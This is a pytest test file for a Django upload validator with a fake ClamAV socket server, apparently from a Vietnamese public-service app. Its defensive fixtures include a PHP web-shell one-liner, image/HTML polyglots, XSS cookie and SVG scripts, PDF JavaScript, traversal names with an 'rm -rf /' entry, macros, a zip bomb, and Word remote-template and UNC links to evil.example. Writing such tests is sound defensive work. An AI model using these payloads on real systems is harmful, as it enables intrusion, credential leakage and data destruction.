import io
import socket
import struct
import threading
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from cchc.lib.uploads import (
    EVIDENCE_KINDS,
    MB,
    UploadRejected,
    attachment_response,
    check_upload,
    check_upload_count,
    clamd_scan,
)

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(range(256)) * 4 + b"\xff\xd9"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def png(extra: bytes = b"") -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
        + extra
    )


def pdf(js: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if js:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(js)}
        )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def docx(extra: dict | None = None) -> bytes:
    buffer = io.BytesIO()
    Document().save(buffer)
    if not extra:
        return buffer.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        for name, data in extra.items():
            dst.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def upload(name, data):
    return SimpleUploadedFile(name, data)


def refused(name, data, **kwargs) -> str:
    with pytest.raises(UploadRejected) as err:
        check_upload(upload(name, data), **kwargs)
    return str(err.value)


class TestWhatIsAccepted:
    def test_it_accepts_real_files_of_the_allowed_kinds(self):
        for name, data, code in [
            ("anh.jpg", JPEG, "jpeg"),
            ("anh.png", png(), "png"),
            ("bc.pdf", pdf(), "pdf"),
            ("bc.docx", docx(), "docx"),
        ]:
            assert check_upload(upload(name, data)).kind.code == code

    def test_stored_names_are_random_and_ignore_the_users_name(self):
        first = check_upload(upload("../../../etc/passwd", pdf()))
        second = check_upload(upload("../../../etc/passwd", pdf()))
        assert first.stored_name != second.stored_name
        assert "/" not in first.stored_name and ".." not in first.stored_name and first.stored_name.endswith(".pdf")

    def test_a_path_traversal_name_keeps_only_its_last_part(self):
        checked = check_upload(upload("..\\..\\windows\\system32\\bao-cao.pdf", pdf()))
        assert checked.original_name == "bao-cao.pdf"
        traversal = check_upload(upload("../../etc/passwd", pdf()))
        assert traversal.original_name == "passwd" and traversal.download_name == "passwd.pdf"

    def test_a_jpg_php_name_becomes_what_the_file_is(self):
        checked = check_upload(upload("anh.jpg.php", JPEG))
        assert checked.download_name == "anh.jpg" and checked.stored_name.endswith(".jpg")


class TestWhatIsRefused:
    def test_the_extension_does_not_matter_content_does(self):
        assert "không thuộc loại được nhận" in refused("bao-cao.pdf", b"MZ\x90\x00 this is a windows program")

    def test_a_php_script_named_jpg(self):
        refused("anh.jpg", b"<?php system($_GET['c']); ?>")

    def test_a_jpeg_php_polyglot(self):
        assert "mã lệnh" in refused("anh.jpg.php", JPEG + b"<?php system($_GET['c']); ?>")

    def test_a_gif_html_polyglot(self):
        assert "mã lệnh" in refused("anh.gif", b"GIF89a/*\x01\x00\x01\x00*/=1;<script>alert(document.cookie)</script>")

    def test_a_png_with_an_archive_glued_on(self):
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as z:
            z.writestr("shell.php", "x")
        message = refused("anh.png", png(archive.getvalue()))
        assert "tệp nén" in message or "dữ liệu lạ" in message

    def test_a_png_with_data_after_its_end(self):
        assert "dữ liệu lạ" in refused("anh.png", png(b"\x00" * 64))

    def test_an_svg_with_script(self):
        svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
        assert "SVG" in refused("logo.svg", svg)
        assert "SVG" in refused("logo.png", svg)

    def test_an_html_page(self):
        refused("trang.pdf", b"<!DOCTYPE html><html><body onload=alert(1)></body></html>")

    def test_a_pdf_with_javascript(self):
        assert "JavaScript" in refused("bc.pdf", pdf(js="app.alert('x');"))

    def test_a_pdf_hiding_javascript_behind_name_escapes(self):
        data = pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>")
        refused("bc.pdf", data)

    def test_an_office_file_with_macros(self):
        assert "macro" in refused("bc.docx", docx({"word/vbaProject.bin": b"\x00" * 100}))

    def test_an_office_file_with_a_path_traversal_entry(self):
        assert "đường dẫn" in refused("bc.docx", docx({"../../evil.sh": b"rm -rf /"}))

    def test_a_zip_bomb(self):
        assert "bom nén" in refused("bc.docx", docx({"word/media/bomb.bin": b"\x00" * (30 * MB)}))

    def test_an_oversized_file(self):
        assert "lớn hơn 20 MB" in refused("lon.pdf", b"%PDF-1.4\n" + b"0" * (20 * MB))

    def test_an_empty_file(self):
        assert "rỗng" in refused("rong.pdf", b"")

    def test_a_kind_not_allowed_here(self):
        refused("bc.docx", docx(), allowed=tuple(k for k in EVIDENCE_KINDS if k.code != "docx"))

    def test_too_many_files_at_once(self):
        with pytest.raises(UploadRejected):
            check_upload_count([object()] * 11)
        check_upload_count([object()] * 10)


class FakeClamd:
    """A stand-in for clamd on a Unix socket that speaks INSTREAM and finds the EICAR test string."""

    def __init__(self, path):
        self.path = str(path)
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(self.path)
        self.server.listen(4)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _read(self, conn, n):
        data = b""
        while len(data) < n:
            part = conn.recv(n - len(data))
            if not part:
                break
            data += part
        return data

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                assert self._read(conn, 10) == b"zINSTREAM\0"
                received = b""
                while True:
                    (size,) = struct.unpack(">I", self._read(conn, 4))
                    if size == 0:
                        break
                    received += self._read(conn, size)
                reply = b"stream: Eicar-Signature FOUND\0" if EICAR in received else b"stream: OK\0"
                conn.sendall(reply)

    def close(self):
        self.server.close()


@pytest.fixture
def clamd(settings, tmp_path):
    server = FakeClamd(tmp_path / "clamd.sock")
    settings.CLAMD_SOCKET = server.path
    yield server
    server.close()


class TestAntivirus:
    def test_without_a_scanner_nothing_is_scanned(self, settings):
        settings.CLAMD_SOCKET = ""
        settings.CLAMD_HOST = ""
        assert clamd_scan(EICAR) is None

    def test_a_clean_file_passes_the_scanner(self, clamd):
        assert check_upload(upload("bc.pdf", pdf())).kind.code == "pdf"

    def test_an_infected_file_is_refused(self, clamd):
        assert "mã độc" in refused("bc.pdf", pdf() + b"\n%" + EICAR)

    def test_an_unreachable_scanner_refuses_rather_than_stores_unscanned(self, settings, tmp_path):
        settings.CLAMD_SOCKET = str(tmp_path / "no-such.sock")
        assert "quét virus" in refused("bc.pdf", pdf())


class TestServingBack:
    def test_files_go_back_as_attachments_never_sniffed(self):
        response = attachment_response(io.BytesIO(JPEG), "anh.jpg", "image/jpeg")
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response["Content-Security-Policy"]
        assert "no-store" in response["Cache-Control"]


class TestRemoteReferences:
    """Finding 9 (issue 15): files that fetch something from elsewhere when opened are refused."""

    RELS = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    )

    def _rels(self, relationship: str) -> dict:
        return {"word/_rels/settings.xml.rels": self.RELS.format(relationship)}

    def test_a_word_file_with_a_remote_template(self):
        data = docx(
            self._rels(
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            )
        )
        assert "attachedTemplate" in refused("mau.docx", data)

    def test_a_word_file_with_an_mhtml_ole_target(self):
        data = docx(
            self._rels(
                '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" '
                'TargetMode="External"/>'
            )
        )
        refused("bao-cao.docx", data)

    def test_a_word_file_linking_to_a_share(self):
        data = docx(
            self._rels(
                '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'hyperlink" Target="file://///evil.example/share/x" TargetMode="External"/>'
            )
        )
        refused("bao-cao.docx", data)

    def test_a_word_file_with_an_ordinary_web_link_is_fine(self):
        data = docx(
            self._rels(
                '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>'
            )
        )
        assert check_upload(upload("bao-cao.docx", data)).kind.code == "docx"

    @pytest.mark.parametrize("target", [b"file:///C:/Windows/win.ini", b"\\\\\\\\evil\\\\share", b"smb://evil/x"])
    def test_a_pdf_linking_to_a_local_file(self, target):
        data = (
            b"%PDF-1.4\n1 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(" + target + b")>>>>endobj\n"
            b"trailer<<>>\n%%EOF\n"
        )
        refused("scan.pdf", data)

    def test_a_pdf_with_a_web_link_is_fine(self):
        data = b"%PDF-1.4\n1 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://gialai.gov.vn/)>>>>endobj\ntrailer<<>>\n%%EOF\n"
        assert check_upload(upload("scan.pdf", data)).kind.code == "pdf"
